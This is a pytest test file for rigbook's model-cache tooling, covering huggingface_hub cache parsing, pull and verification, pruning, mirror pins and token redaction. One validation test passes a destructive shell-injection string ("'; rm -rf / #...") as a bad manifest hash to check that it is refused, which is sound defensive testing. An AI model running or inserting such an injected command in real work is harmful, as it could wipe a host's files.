"""The models role: cache fact on a real cache layout, completeness, preflight, prune, tokens.

Caches are built in tmp_path exactly as huggingface_hub lays them out (blobs named by etag,
snapshot files as relative symlinks into ../../blobs, refs/<name> holding a commit), and the
fact's own script runs on them. pull.py's pure parts are tested by importing it; the whole
script runs against tests/hubstub.py over loopback with a real huggingface_hub (the pinned one,
installed from the wheelhouse into a throwaway venv).
"""

from __future__ import annotations

import contextlib
import errno
import fcntl
import hashlib
import importlib.util
import io
import json
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from pyinfra.api import FunctionCommand, StringCommand
from pyinfra.api.command import FileUploadCommand

from rigbook.core.checks import Facts
from rigbook.core.errors import RigbookError
from rigbook.core.secrets import Secret
from rigbook.core.spec import ModelSpec, Rig, parse_rig
from rigbook.roles.models import (
    CacheState,
    ModelCache,
    model_findings,
    model_snapshot,
    parse_cache,
    parse_pull_output,
    prune_listing,
    prune_models,
    pull_command,
    pull_message,
    redact,
    repo_folder,
    selected,
    snapshot_path,
    snapshot_status,
    unreferenced,
    wanted_models,
)
from rigbook.roles.tokens import (
    MIRROR_TOKEN_PATH,
    TOKEN_PATH,
    SecretFile,
    SecretFileState,
    hf_token,
    mirror_token,
    operator_token,
    parse_secret_file,
    rig_tokens,
)
from tests.conftest import made_once
from tests.hubstub import PROGRAMS, Hub, StubHandler, huge_repo, mirror, serve, tiny_repo
from tests.opkit import run_op, shell
from tests.standins import filling
from tests.test_facts_data import captured
from tests.test_progress import FakeRig
from tests.test_rig_programs import load

COMMIT = "a" * 40
OTHER = "b" * 40
TOKEN = "hf_FAKEfakeFAKEfakeFAKEfake0123456789"
BASE = {"platform": "debian", "gpu_class": "rtx3090", "gpu_count": 1}


def rig(**data) -> Rig:
    return parse_rig("rig1", {**BASE, **data})


def spec(repo: str = "org/model", revision: str = COMMIT, **data) -> ModelSpec:
    return ModelSpec(repo=repo, revision=revision, **data)


git_oid, lfs_pointer = mirror.git_blob_oid, mirror.lfs_pointer
MIRROR_TOKEN = "rigbook-fleet-0123456789abcdef0123456789abcdef"


def make_repo(cache: Path, repo: str, commit: str, files: dict[str, bytes], *,
              lfs: tuple[str, ...] = (), manifest: bool = True, refs: dict | None = None,
              patterns: tuple[tuple, tuple] = ((), ())) -> Path:
    """A repo folder as huggingface_hub writes it, plus rigbook's manifest (optional)."""
    top = cache / repo_folder(repo)
    snapshot = top / "snapshots" / commit
    (top / "blobs").mkdir(parents=True, exist_ok=True)
    entries = {}
    for path, data in files.items():
        sha = hashlib.sha256(data).hexdigest()
        etag = sha if path in lfs else git_oid(data)
        (top / "blobs" / etag).write_bytes(data)
        link = snapshot / path
        link.parent.mkdir(parents=True, exist_ok=True)
        link.symlink_to(os.path.relpath(top / "blobs" / etag, link.parent))
        oid = git_oid(lfs_pointer(sha, len(data))) if path in lfs else etag
        entries[path] = {"size": len(data), "sha256": sha, "lfs": path in lfs, "oid": oid}
    for name, value in (refs or {}).items():
        (top / "refs" / name).parent.mkdir(parents=True, exist_ok=True)
        (top / "refs" / name).write_text(value)
    if manifest:
        (top / "rigbook").mkdir(exist_ok=True)
        (top / "rigbook" / f"{commit}.json").write_text(json.dumps({
            "rigbook_manifest": 2, "repo": repo, "revision": commit, "files": entries,
            "allow_patterns": list(patterns[0]), "ignore_patterns": list(patterns[1]),
        }))
    return top


CACHE_PROGRAM = load("cache")


def read_cache(cache: Path) -> CacheState:
    """ModelCache's value for a cache a test built: the fact's rig-side program run in-process on
    it, its output read by the fact (tests/test_rig_programs.py: what the fact's command prints
    on a real host is the same)."""
    printed = io.StringIO()
    with contextlib.redirect_stdout(printed):
        CACHE_PROGRAM.main(["cache.py", str(cache)])
    return ModelCache().process(printed.getvalue().splitlines())


FILES_A = {"config.json": b'{"model_type": "llama"}\n', "model.safetensors": b"\x01" * 4096,
           "sub/tokenizer.json": b"{}\n"}


# --- the cache fact ---------------------------------------------------------------------------


def test_cache_fact_reads_the_real_layout(tmp_path):
    cache = tmp_path / "hub"
    top = make_repo(cache, "org/model", COMMIT, FILES_A, lfs=("model.safetensors",),
                    refs={"main": COMMIT, "refs/pr/1": OTHER})
    (top / "blobs" / f"{'c' * 64}.0123abcd.incomplete").write_bytes(b"\0" * 100)
    make_repo(cache, "org/old", OTHER, {"config.json": b"{}"}, manifest=False)
    (cache / "datasets--org--data").mkdir()  # not a model: not reported
    (cache / ".locks").mkdir()

    state = read_cache(cache)
    assert state.exists and state.cache == str(cache)
    assert sorted(state.repos) == ["org/model", "org/old"]
    repo = state.repos["org/model"]
    assert repo.folder == "models--org--model"
    assert repo.refs == {"main": COMMIT, "refs/pr/1": OTHER}
    assert repo.snapshots[COMMIT] == {
        "config.json": 24, "model.safetensors": 4096, "sub/tokenizer.json": 3}
    assert repo.incomplete == ((f"{'c' * 64}.0123abcd.incomplete", 100),)
    assert repo.bytes == 24 + 4096 + 3 + 100
    manifest = repo.manifests[COMMIT]
    assert manifest.files["model.safetensors"] == (
        4096, hashlib.sha256(b"\x01" * 4096).hexdigest())
    config = hashlib.sha256(FILES_A["config.json"]).hexdigest()
    assert manifest.files["config.json"] == (24, config)
    assert state.repos["org/old"].manifests == {}


def test_cache_fact_on_a_missing_cache_and_a_broken_link(tmp_path):
    assert read_cache(tmp_path / "nope") == CacheState(str(tmp_path / "nope"), False, {})
    top = make_repo(tmp_path, "org/model", COMMIT, FILES_A)
    (top / "blobs" / git_oid(FILES_A["config.json"])).unlink()
    (top / "rigbook" / f"{COMMIT}.json").write_text("{not json")
    repo = read_cache(tmp_path).repos["org/model"]
    assert repo.snapshots[COMMIT]["config.json"] is None
    assert repo.manifests == {COMMIT: None}


def test_parse_cache_refuses_non_json():
    from pyinfra.api.exceptions import FactProcessError

    with pytest.raises(FactProcessError, match="no JSON"):
        parse_cache("python3: command not found")


# --- completeness -----------------------------------------------------------------------------


def status_of(tmp_path, model=None, **changes):
    return snapshot_status(read_cache(tmp_path), model or spec())


def test_complete_snapshot(tmp_path):
    make_repo(tmp_path, "org/model", COMMIT, FILES_A, lfs=("model.safetensors",))
    status = status_of(tmp_path)
    assert status.complete and status.reason == ""
    assert (status.files, status.bytes) == (3, 24 + 4096 + 3)


def test_not_in_cache_and_no_snapshot(tmp_path):
    assert "not in the cache" in status_of(tmp_path).reason
    make_repo(tmp_path, "org/model", OTHER, FILES_A)
    status = status_of(tmp_path)
    assert not status.complete and "no snapshot of commit aaaaaaaaaaaa" in status.reason


def test_files_without_manifest_are_partial_never_done(tmp_path):
    make_repo(tmp_path, "org/model", COMMIT, FILES_A, manifest=False)
    status = status_of(tmp_path)
    assert not status.complete
    assert "3 file(s)" in status.reason and "never completed by a pull" in status.reason


def test_missing_and_short_files_are_named(tmp_path):
    top = make_repo(tmp_path, "org/model", COMMIT, FILES_A, lfs=("model.safetensors",))
    (top / "snapshots" / COMMIT / "sub" / "tokenizer.json").unlink()
    blob = (top / "snapshots" / COMMIT / "model.safetensors").resolve()
    blob.write_bytes(b"\x01" * 1000)  # cut short
    status = status_of(tmp_path)
    assert not status.complete
    assert status.missing == ("sub/tokenizer.json",)
    assert status.wrong_size == (("model.safetensors", 1000, 4096),)
    assert status.reason == (
        "partial: missing sub/tokenizer.json; wrong size model.safetensors (1000 of 4096 bytes)")


def test_a_manifest_without_every_sha256_is_hashed_where_the_mirror_runs(tmp_path):
    """An older rigbook recorded no sha256 for non-LFS files: complete for serving, but the
    mirror could not vouch for them, so on a mirror rig the pull hashes them (no download)."""
    top = make_repo(tmp_path, "org/model", COMMIT, FILES_A, lfs=("model.safetensors",))
    path = top / "rigbook" / f"{COMMIT}.json"
    old = json.loads(path.read_text())
    for meta in old["files"].values():
        if not meta.pop("lfs"):
            meta["sha256"] = None
        del meta["oid"]
    path.write_text(json.dumps(old))
    cache = read_cache(tmp_path)
    assert status_of(tmp_path).complete
    models = [{"repo": "org/model", "revision": COMMIT}]
    plain = rig(models=models, models_cache=str(tmp_path))
    assert run_op(model_snapshot, {"ModelCache": cache}, spec=plain.models[0], rig=plain)[0] == []
    mirror_rig = rig(models=models, models_cache=str(tmp_path), models_mirror_port=8090,
                     models_mirror_token_file="t")
    commands, fake = run_op(model_snapshot, {"ModelCache": cache}, spec=mirror_rig.models[0],
                            rig=mirror_rig)
    assert len(commands) == 1 and isinstance(commands[0], FunctionCommand)
    assert commands[0].args[1] == ("2 file(s) have no sha256 in its manifest (an older rigbook's "
                                   "pull), which the mirror needs")


def test_changed_patterns_and_leftovers_need_a_pull(tmp_path):
    top = make_repo(tmp_path, "org/model", COMMIT, FILES_A, patterns=(("*.json",), ()))
    assert "patterns changed" in status_of(tmp_path).reason
    assert status_of(tmp_path, spec(allow_patterns=("*.json",))).complete
    (top / "blobs" / "abc.12345678.incomplete").write_bytes(b"\0" * 2048)
    status = status_of(tmp_path, spec(allow_patterns=("*.json",)))
    assert not status.complete and "1 .incomplete leftover(s) (0.00 MiB)" in status.reason


def test_model_snapshot_is_a_noop_when_complete_and_pulls_otherwise(tmp_path):
    make_repo(tmp_path, "org/model", COMMIT, FILES_A)
    cfg = rig(models=[{"repo": "org/model", "revision": COMMIT}], models_cache=str(tmp_path))
    cache = read_cache(tmp_path)
    commands, fake = run_op(model_snapshot, {"ModelCache": cache}, spec=cfg.models[0], rig=cfg)
    assert commands == []
    pin = hashlib.sha256((tmp_path / "models--org--model" / "rigbook" / f"{COMMIT}.json")
                         .read_bytes()).hexdigest()  # what the operator pins for other rigs
    assert fake.noops == [f"org/model@aaaaaaaaaaaa is complete in {tmp_path} (3 file(s), 0.00 MiB)"
                          f"; manifest sha256 {pin}"]
    assert fake.asked == [("ModelCache", {"cache": str(tmp_path)})]

    other = spec("org/other")
    commands, fake = run_op(model_snapshot, {"ModelCache": cache}, spec=other, rig=cfg)
    assert len(commands) == 1 and isinstance(commands[0], FunctionCommand)
    assert fake.noops == []


def test_pull_step_reports_and_fails_unless_complete():
    model, cfg = spec(), rig()
    secret = Secret(TOKEN)

    class FakeState:
        print_output = print_input = False

    for result, ok in (({"status": "complete", "files": 1, "total_bytes": 1}, True),
                       ({"status": "partial", "missing": ["x"]}, False),
                       ({"status": "error", "message": f"401 with {TOKEN}"}, False)):
        commands, fake = run_op(model_snapshot, {"ModelCache": CacheState("/c", False, {})},
                                spec=model, rig=cfg, token=secret, executing=True)
        fake.run_shell_command = FakeRig([], 0, json.dumps(result)).run_shell_command
        step = commands[0]
        assert step.function(FakeState(), fake, *step.args) is ok
        assert all(TOKEN not in line for line in fake.logged)
    assert "pull failed: 401 with ***" in fake.logged[-1]


def progress_line(kind: str, **fields) -> str:
    return json.dumps({"progress": kind, **fields}, sort_keys=True)


def counts(done: int, rate: int, active=()) -> str:
    """pull.py's byte counts: 3 of 4 files done, `active` as (path, bytes, size, rate)."""
    keys = ("path", "bytes", "size", "rate")
    return progress_line("bytes", bytes=done, total=32 * 2**20, rate=rate, files_done=3,
                         files=4, active=[dict(zip(keys, item, strict=True)) for item in active])


def test_pull_progress_shows_while_it_runs_redacted_then_the_summary(caplog, monkeypatch):
    """What the operator sees of a pull: its progress lines as they come (the newest count of
    each read), with the rig's prefix and the token masked, then one line with the average."""
    monkeypatch.setenv("RIGBOOK_PROGRESS_EVERY", "0.2")
    big, size = f"model-{TOKEN}.safetensors", 32 * 2**20
    log = [progress_line("download", files=4, bytes=size),
           counts(0, 0, [(big, 0, size, 0)]),
           counts(10 * 2**20, 2 * 2**20, [(big, 10 * 2**20, size, 2**21)]),
           "UserWarning: something huggingface_hub said",
           counts(20 * 2**20, 3 * 2**20, [(big, 20 * 2**20, size, 3 * 2**20)]),
           progress_line("verify", files=4)]
    result = {"status": "complete", "files": 4, "total_bytes": size, "seconds": 9.0,
              "downloaded": ["a", "b", "c", big], "downloaded_bytes": size,
              "download_seconds": 8.0}
    commands, fake = run_op(model_snapshot, {"ModelCache": CacheState("/c", False, {})},
                            spec=spec(), rig=rig(), token=Secret(TOKEN), executing=True)
    assert commands[0].args[3] == 0.2  # the interval, also given to pull.py
    assert "--progress-every=0.2 " in commands[0].args[2].get_raw_value()
    rig_side = FakeRig([log[0] + "\n", log[1] + "\n", "\n".join(log[2:]) + "\n"], 0.3,
                       json.dumps(result))
    fake.run_shell_command = rig_side.run_shell_command

    class FakeState:
        print_output = print_input = False

    with caplog.at_level("INFO", logger="pyinfra"):
        assert commands[0].function(FakeState(), fake, *commands[0].args) is True
    where = f"[rig1] org/model@{COMMIT[:12]}: "
    assert [r.getMessage().removeprefix(where) for r in caplog.records] == [
        f"[rig1] pulling org/model@{COMMIT[:12]} (not in the cache /c) ...",
        "downloading 4 file(s), 32.00 MiB",
        "0.00 MiB of 32.00 MiB (0%) at 0.00 MiB/s, 3 of 4 file(s) done; model-***.safetensors "
        "0.00 MiB of 32.00 MiB at 0.00 MiB/s",
        # one read brought two counts: only the newer one shows
        "20.00 MiB of 32.00 MiB (62%) at 3.00 MiB/s, 3 of 4 file(s) done; model-***.safetensors "
        "20.00 MiB of 32.00 MiB at 3.00 MiB/s",
        "checking sizes and hashes of 4 file(s)",
        "pulled 4 file(s), 32.00 MiB in 8.0 s (4.00 MiB/s); complete: 4 file(s), 32.00 MiB",
    ]
    assert all(TOKEN not in r.getMessage() for r in caplog.records)
    assert rig_side.commands[:2] == ["rm", "env"]  # the pull log of the last pull is gone first


# --- the pull command and its result ----------------------------------------------------------


def test_pull_command_has_no_secret_and_quotes_patterns():
    cfg = rig(models_endpoint="http://127.0.0.1:18080", models_disk_margin_gib=1.5,
              models_mirror_token_file="fleet-token")
    model = spec(allow_patterns=("*.json", "model-*.safetensors"), ignore_patterns=("*.bin",))
    text = pull_command(model, cfg).get_raw_value()
    assert text.startswith("env -u HF_TOKEN -u HUGGING_FACE_HUB_TOKEN ")
    assert "HF_HUB_DISABLE_XET=1" in text
    assert "--endpoint=http://127.0.0.1:18080" in text
    assert f"--margin-bytes={int(1.5 * 1024**3)}" in text
    assert "'--allow=*.json' '--allow=model-*.safetensors' '--ignore=*.bin'" in text
    assert "/opt/rigbook/tools/bin/python /opt/rigbook/models/pull.py" in text
    assert " --progress-every=5 " in text
    assert text.endswith(" 2> /opt/rigbook/models/.models--org--model.pull.log")  # read meanwhile
    plain = pull_command(spec(), rig()).get_raw_value()
    assert "XET" not in plain and "--endpoint" not in plain
    assert "--margin-bytes=10737418240" in plain


def test_each_token_goes_only_to_its_destination():
    """The HF token only to the hub; the fleet's token only to the mirror, whatever its URL."""
    hub = pull_command(spec(), rig()).get_raw_value()
    assert f"HF_TOKEN_PATH={TOKEN_PATH} " in hub
    for endpoint in ("https://mirror.lan", "http://127.0.0.1:18080", "http://10.0.0.5:8090"):
        text = pull_command(spec(), rig(models_endpoint=endpoint,
                                        models_mirror_token_file="t")).get_raw_value()
        assert f"HF_TOKEN_PATH={MIRROR_TOKEN_PATH} " in text and TOKEN_PATH + " " not in text


def fleet_token_file(tmp_path, text=MIRROR_TOKEN, mode=0o600, name="fleet-token") -> str:
    path = tmp_path / name
    path.write_text(text + "\n")
    path.chmod(mode)
    return str(path)


def test_rig_tokens_each_only_where_used(tmp_path):
    models = [{"repo": "org/a", "revision": COMMIT}]
    fleet = fleet_token_file(tmp_path)
    env = {"HF_TOKEN": TOKEN}

    def held(**data):
        return {t.what: (t.token.reveal() if t.token else t.why_not)
                for t in rig_tokens(rig(**data), env)}

    assert held(models=models) == {"HF token": TOKEN, "mirror token": "none supplied this run"}
    # a mirror rig pulls from the hub and serves the fleet
    assert held(models=models, models_mirror_port=8090, models_mirror_token_file=fleet) == {
        "HF token": TOKEN, "mirror token": MIRROR_TOKEN}
    # a rig pulling from a mirror holds no HF token
    pinned = [{**models[0], "manifest_sha256": "c" * 64}]
    assert held(models=pinned, models_endpoint="http://10.0.0.5:8090",
                models_mirror_token_file=fleet) == {
        "HF token": "not used here", "mirror token": MIRROR_TOKEN}
    assert held(models_mirror_token_file=fleet) == {
        "HF token": "not used here", "mirror token": "not used here"}


def test_mirror_token_file_refused_when_loose_or_weak_never_shown(tmp_path):
    secret = "s3cret-fleet-token-that-must-never-be-printed-0123"
    loose = fleet_token_file(tmp_path, secret, 0o644, name="loose-token")
    with pytest.raises(RigbookError) as caught:
        mirror_token(rig(models_mirror_token_file=loose))
    assert str(caught.value) == (
        f"models_mirror_token_file: other users of this machine may read {loose} (mode 0644); "
        "allowed: a file only its owner can read (chmod 600)")
    for text in ("short", "two words here and there 0123456789abcdef", "é" * 40):
        weak = fleet_token_file(tmp_path, text)
        with pytest.raises(RigbookError, match="models_mirror_token_file: ") as caught:
            mirror_token(rig(models_mirror_token_file=weak))
        assert text not in str(caught.value)
    assert mirror_token(rig(models_mirror_token_file=fleet_token_file(tmp_path))).reveal() == \
        MIRROR_TOKEN
    # before connecting: the inventory check reads it
    from rigbook.inventory import rig_problems

    problems = rig_problems(rig(models_mirror_token_file=loose), "rig1")
    assert problems == [f"rig1: models_mirror_token_file: other users of this machine may read "
                        f"{loose} (mode 0644); allowed: a file only its owner can read (chmod 600)"]
    assert secret not in "".join(problems)


def test_parse_pull_output_takes_the_last_json_line():
    assert parse_pull_output('noise\n{"status": "complete"}\n') == {"status": "complete"}
    assert parse_pull_output("Traceback ...\nKeyError: 'x'") is None
    assert parse_pull_output('{"no": "status"}') is None


def test_pull_messages():
    model = spec("org/m")
    done = {"status": "complete", "files": 4, "total_bytes": 3 * 1024**3,
            "downloaded": ["a", "b"], "downloaded_bytes": 2 * 1024**3, "seconds": 12.34,
            "removed_incomplete": [{"name": "x.incomplete", "size": 1024**2}],
            "manifest_sha256": "d" * 64}
    assert pull_message(model, done) == (
        "org/m@aaaaaaaaaaaa: pulled 2 file(s), 2.00 GiB in 12.3 s (165.96 MiB/s), removed 1 "
        f".incomplete leftover(s) (1.00 MiB); complete: 4 file(s), 3.00 GiB; manifest sha256 "
        f"{'d' * 64}")
    # the average is over the download itself, not the listing and the hashing around it
    assert "pulled 2 file(s), 2.00 GiB in 8.0 s (256.00 MiB/s)" in pull_message(
        model, {**done, "download_seconds": 8.0})
    refused = {"status": "refused", "message": "need 9313.23 GiB + 10.00 GiB margin, have "
               "5.00 GiB free on /var; nothing was downloaded"}
    assert pull_message(model, refused).endswith(
        "pull refused: need 9313.23 GiB + 10.00 GiB margin, have 5.00 GiB free on /var; "
        "nothing was downloaded")
    partial = {"status": "partial", "missing": ["model.safetensors"], "downloaded": ["c"],
               "wrong_size": [{"path": "w", "size": 1, "expected": 2}],
               "bad_hash": [{"path": "h", "hash": "sha256", "actual": "1" * 64,
                             "expected": "2" * 64}],
               "errors": {"model.safetensors": "HfHubHTTPError: 503"}}
    text = pull_message(model, partial)
    assert "PARTIAL snapshot, not complete: missing model.safetensors; w is 1 of 2 bytes; " in text
    assert "h has sha256 111111111111…, expected 222222222222…" in text
    assert "(errors: model.safetensors: HfHubHTTPError: 503)" in text
    assert "run again to finish" in text
    stderr = "\n".join(f"line {n}" for n in range(1, 8))
    assert pull_message(model, None, stderr).endswith(
        "the pull script failed without a result: line 3 | line 4 | line 5 | line 6 | line 7")


# --- preflight, leftovers and verification in pull.py -------------------------------------------


def load_pull():
    loader = importlib.util.spec_from_file_location("rigbook_pull", PROGRAMS / "pull.py")
    module = importlib.util.module_from_spec(loader)
    loader.loader.exec_module(module)
    return module


def test_preflight_arithmetic_and_message(monkeypatch, tmp_path):
    pull = load_pull()
    monkeypatch.setattr(pull, "free_bytes", lambda path: 5 * 1024**3)
    monkeypatch.setattr(pull, "mount_point", lambda path: "/var")
    missing = {"a": {"size": 3 * 1024**3}, "b": {"size": 1024**3}}
    margin = 1024**3
    # 4 GiB + 1 GiB margin == 5 GiB free: fits exactly.
    assert pull.preflight(missing, "/var/hub", margin, 50 * 10**9, False) is None
    refusal = pull.preflight(missing, "/var/hub", margin + 1, 50 * 10**9, False)
    assert refusal["need_bytes"] == 4 * 1024**3 and refusal["free_bytes"] == 5 * 1024**3
    assert refusal["message"] == (
        "need 4.00 GiB + 1.00 GiB margin, have 5.00 GiB free on /var (cache /var/hub); "
        "nothing was downloaded")
    huge = {"shard": {"size": 60 * 10**9}}
    monkeypatch.setattr(pull, "free_bytes", lambda path: 10**12)
    assert "shard exceed 50 GB" in pull.preflight(huge, "/c", 0, 50 * 10**9, False)["message"]
    assert pull.preflight(huge, "/c", 0, 50 * 10**9, True) is None


def test_real_free_space_and_mount_point(tmp_path):
    pull = load_pull()
    assert pull.free_bytes(str(tmp_path / "not" / "yet")) > 0
    assert os.path.ismount(pull.mount_point(str(tmp_path / "not" / "yet")))


def test_dead_leftovers_are_removed_live_ones_kept(tmp_path):
    pull = load_pull()
    folder = repo_folder("org/model")
    blobs = tmp_path / folder / "blobs"
    blobs.mkdir(parents=True)
    (blobs / "dead.0000aaaa.incomplete").write_bytes(b"\0" * 10)
    (blobs / "live.1111bbbb.incomplete").write_bytes(b"\0" * 20)
    (blobs / "old.incomplete").write_bytes(b"\0" * 30)  # huggingface_hub 0.x naming
    lock_dir = tmp_path / ".locks" / folder
    lock_dir.mkdir(parents=True)
    with open(lock_dir / "live.lock", "a") as held:
        fcntl.flock(held, fcntl.LOCK_EX)  # a download in progress holds its etag's lock
        removed = pull.remove_dead_leftovers(tmp_path, folder)
    assert removed == [{"name": "dead.0000aaaa.incomplete", "size": 10},
                       {"name": "old.incomplete", "size": 30}]
    assert [p.name for p in blobs.iterdir()] == ["live.1111bbbb.incomplete"]


def test_verify_checks_sizes_and_every_hash_and_removes_bad_files(tmp_path):
    pull = load_pull()
    data = {"model.safetensors": b"\x01" * 4096, "config.json": b"{}"}
    top = make_repo(tmp_path, "org/model", COMMIT, data, lfs=("model.safetensors",),
                    manifest=False)
    snapshot = top / "snapshots" / COMMIT
    good = hashlib.sha256(data["model.safetensors"]).hexdigest()
    config = hashlib.sha256(b"{}").hexdigest()
    pointer = git_oid(lfs_pointer(good, 4096))
    # as the hub lists them: sha256 for LFS files only, the git blob id of every file
    files = {"model.safetensors": {"size": 4096, "sha256": good, "oid": pointer, "lfs": True},
             "config.json": {"size": 2, "sha256": None, "oid": git_oid(b"{}"), "lfs": False},
             "gone.json": {"size": 1, "sha256": None, "oid": "0" * 40, "lfs": False}}
    assert pull.verify(snapshot, files, {}, {"model.safetensors"}) == (
        ["gone.json"], [], [], {"model.safetensors": good, "config.json": config})

    wrong = dict(files, **{"model.safetensors": {**files["model.safetensors"],
                                                 "sha256": "0" * 64}})
    vouched = {"model.safetensors": {"size": 4096, "sha256": "0" * 64, "oid": pointer}}
    # Vouched for by a manifest with the same hashes and not pulled now: not re-hashed.
    assert pull.verify(snapshot, wrong, vouched, set())[2:] == (
        [], {"model.safetensors": "0" * 64, "config.json": config})
    missing, sizes, bad, _ = pull.verify(snapshot, wrong, {}, {"model.safetensors"})
    assert bad == [{"path": "model.safetensors", "hash": "sha256", "actual": good,
                    "expected": "0" * 64}]
    assert not (snapshot / "model.safetensors").exists()
    assert not (top / "blobs" / good).exists()  # removed so that the next run fetches it

    # A non-LFS file whose bytes do not give the git blob id the hub lists: bad too.
    swapped = dict(files, **{"config.json": {**files["config.json"], "oid": git_oid(b"[]")}})
    bad = pull.verify(snapshot, swapped, {"config.json": {"sha256": config}}, set())[2]
    assert bad == [{"path": "config.json", "hash": "git blob id", "actual": git_oid(b"{}"),
                    "expected": git_oid(b"[]")}]
    assert not (snapshot / "config.json").exists()


def test_pull_progress_from_the_cache_never_goes_back_and_rates_over_a_window(tmp_path):
    pull = load_pull()
    snapshot, blobs = tmp_path / "snapshots" / COMMIT, tmp_path / "blobs"
    missing = {
        "config.json": {"size": 3, "sha256": None, "lfs": False, "oid": "c" * 40},
        "model.safetensors": {"size": 100, "sha256": "a" * 64, "lfs": True, "oid": "d" * 40},
        "other.safetensors": {"size": 50, "sha256": "b" * 64, "lfs": True, "oid": "e" * 40},
    }
    progress = pull.Progress(snapshot, blobs, missing, now=0.0)
    assert progress.sample(5.0) == {"bytes": 0, "total": 153, "files_done": 0, "files": 3,
                                    "active": [], "rate": 0}  # no blobs folder yet
    blobs.mkdir()
    snapshot.mkdir(parents=True)
    (snapshot / "config.json").write_bytes(b"{}\n")
    partial = blobs / f"{'a' * 64}.0badc0de.incomplete"
    partial.write_bytes(b"x" * 40)
    (blobs / f"{'c' * 40}.incomplete").write_bytes(b"")  # a leftover of a file now done
    assert progress.sample(10.0) == {
        "bytes": 43, "total": 153, "files_done": 1, "files": 3, "rate": 4,
        "active": [{"path": "model.safetensors", "bytes": 40, "size": 100, "rate": 4}]}
    partial.write_bytes(b"x" * 10)  # huggingface_hub started it again: the count stays
    assert progress.sample(15.0)["active"] == [
        {"path": "model.safetensors", "bytes": 40, "size": 100, "rate": 3}]
    partial.unlink()
    (snapshot / "model.safetensors").write_bytes(b"x" * 100)
    # 30 s on, the rate is over the last 30 s only: (103 - 43) / (40 - 10)
    assert progress.sample(40.0) == {"bytes": 103, "total": 153, "files_done": 2, "files": 3,
                                     "active": [], "rate": 2}


def test_pull_writes_one_progress_line_an_interval_on_stderr(tmp_path, capsys):
    pull = load_pull()
    progress = pull.Progress(tmp_path, tmp_path, {}, now=0.0)
    with pull.reporting(progress, 0.05):
        threading.Event().wait(0.32)
    out = capsys.readouterr()
    lines = out.err.splitlines()
    assert out.out == "" and 2 <= len(lines) <= 6, lines
    assert all(json.loads(line)["progress"] == "bytes" for line in lines)


# --- pruning ----------------------------------------------------------------------------------


def test_prune_selection_and_report(tmp_path):
    make_repo(tmp_path, "org/keep", COMMIT, {"a": b"x" * 10})
    make_repo(tmp_path, "org/drop", COMMIT, {"a": b"y" * (3 * 1024**2)})
    make_repo(tmp_path, "other/old", OTHER, {"b": b"z" * 5}, manifest=False)
    cache = read_cache(tmp_path)
    extra = unreferenced(cache, ["org/keep"])
    assert [repo.repo for repo in extra] == ["org/drop", "other/old"]
    assert prune_listing(extra) == "2 repo(s), 3.00 MiB: org/drop (3.00 MiB), other/old (0.00 MiB)"

    commands, fake = run_op(prune_models, {"ModelCache": cache}, cache=str(tmp_path),
                            keep=("org/keep",), prune=False)
    assert commands == [] and fake.noops[0].startswith("not pruning (models_prune is false): 2")
    commands, fake = run_op(prune_models, {"ModelCache": cache}, cache=str(tmp_path),
                            keep=("org/keep",), prune=True)
    assert shell(commands) == [
        f"rm -rf {tmp_path}/models--org--drop {tmp_path}/.locks/models--org--drop",
        f"rm -rf {tmp_path}/models--other--old {tmp_path}/.locks/models--other--old",
    ]
    commands, fake = run_op(prune_models, {"ModelCache": cache}, cache=str(tmp_path),
                            keep=("org/keep", "org/drop", "other/old"), prune=True)
    assert commands == [] and fake.noops == [f"no cached repo outside models in {tmp_path}"]


# --- host data --------------------------------------------------------------------------------


def test_models_section_validation():
    models = [{"repo": "org/a", "revision": COMMIT}, {"repo": "org/b", "revision": OTHER}]
    cfg = rig(models=models, models_only="org/b")
    assert [m.repo for m in selected(cfg)] == ["org/b"]
    assert [m.repo for m in selected(rig(models=models))] == ["org/a", "org/b"]
    assert cfg.models_cache == "/var/lib/rigbook/hf/hub"
    assert snapshot_path(cfg, cfg.models[0]) == (
        f"/var/lib/rigbook/hf/hub/models--org--a/snapshots/{COMMIT}")
    with pytest.raises(RigbookError, match="models_only 'org/c' is not in models"):
        rig(models=models, models_only="org/c")
    with pytest.raises(RigbookError, match="lists org/a more than once"):
        rig(models=[*models, {"repo": "org/a", "revision": OTHER}])
    with pytest.raises(RigbookError, match="models_cache: .*absolute"):
        rig(models_cache="hub")
    with pytest.raises(RigbookError, match="models_endpoint"):
        rig(models_endpoint="ftp://mirror")
    with pytest.raises(RigbookError, match="revision"):
        rig(models=[{"repo": "org/a", "revision": "main"}])


def test_a_pull_from_a_mirror_needs_the_operators_pin_before_connecting():
    pinned = {"repo": "org/b", "revision": OTHER, "manifest_sha256": "c" * 64}
    fleet = {"models_endpoint": "http://10.0.0.5:8090", "models_mirror_token_file": "t"}
    with pytest.raises(RigbookError) as caught:
        rig(models=[{"repo": "org/a", "revision": COMMIT}, pinned], **fleet)
    text = str(caught.value)
    assert "models[0] (org/a): no manifest_sha256, which models_endpoint needs" in text
    assert "sha256sum <models_cache>/models--ORG--NAME/rigbook/<revision>.json" in text
    assert "org/b" not in text
    for bad in ("C" * 64, "c" * 63, "c" * 64 + "\n", "sha256:" + "c" * 64, "c" * 63 + "$",
                "'; rm -rf / #" + "c" * 52):
        with pytest.raises(RigbookError, match="manifest_sha256"):
            rig(models=[{**pinned, "manifest_sha256": bad}], **fleet)
    cfg = rig(models=[pinned], **fleet)
    assert f"--manifest-sha256={'c' * 64}" in pull_command(cfg.models[0], cfg).get_raw_value()
    # from the hub the pin is not needed, and not sent (the hub's own hashes are checked)
    hub = rig(models=[pinned])
    assert "--manifest-sha256" not in pull_command(hub.models[0], hub).get_raw_value()
    assert rig(models=[{"repo": "org/a", "revision": COMMIT}]).models[0].manifest_sha256 is None


# --- the token --------------------------------------------------------------------------------


def test_secret_never_prints():
    secret = Secret(TOKEN)
    assert TOKEN not in repr(secret) and TOKEN not in str(secret) and TOKEN not in f"{secret}"
    assert TOKEN not in repr([secret, {"token": secret}])
    assert redact(f"GET /x with {TOKEN} failed", secret) == "GET /x with *** failed"
    assert redact("text", None) == "text"
    assert secret.data == TOKEN.encode() + b"\n"


def test_operator_token_sources(tmp_path):
    assert operator_token(rig(), {}) is None
    assert operator_token(rig(), {"HF_TOKEN": f" {TOKEN}\n"}).reveal() == TOKEN
    path = tmp_path / "token"
    path.write_text("hf_fromfile\n")
    cfg = rig(models_token_file=str(path))
    with pytest.raises(RigbookError, match=r"other users of this machine may read .* \(mode 0644\)"
                                           r"; allowed: a file only its owner can read"):
        operator_token(cfg, {"HF_TOKEN": TOKEN})
    path.chmod(0o600)
